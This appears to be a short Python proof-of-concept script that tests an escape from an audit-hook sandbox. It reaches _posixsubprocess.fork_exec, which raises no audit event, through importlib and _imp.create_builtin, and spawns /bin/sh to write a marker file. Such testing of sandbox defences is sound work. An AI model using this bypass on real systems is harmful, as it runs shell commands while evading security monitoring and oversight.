"""Escape: _posixsubprocess.fork_exec, which raises no audit event, reached
fresh through importlib and _imp.create_builtin."""
import importlib, importlib.machinery, _imp, os, sys
cmd = [b"/bin/sh", b"-c", b"echo escaped > '" + os.fsencode(sys.argv[1]) + b"'"]
mods = [importlib.import_module("_posixsubprocess")]
try:
    mods.append(_imp.create_builtin(importlib.machinery.ModuleSpec("_posixsubprocess", None)))
except Exception as e:
    print("create_builtin refused", type(e).__name__)
for m in mods:
    try:
        pid = m.fork_exec(cmd, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1,
                          *os.pipe(), False, False, -1, None, None, None, -1, None, False)
        os.waitpid(pid, 0)
        break
    except Exception as e:
        print("fork_exec refused", type(e).__name__, e)
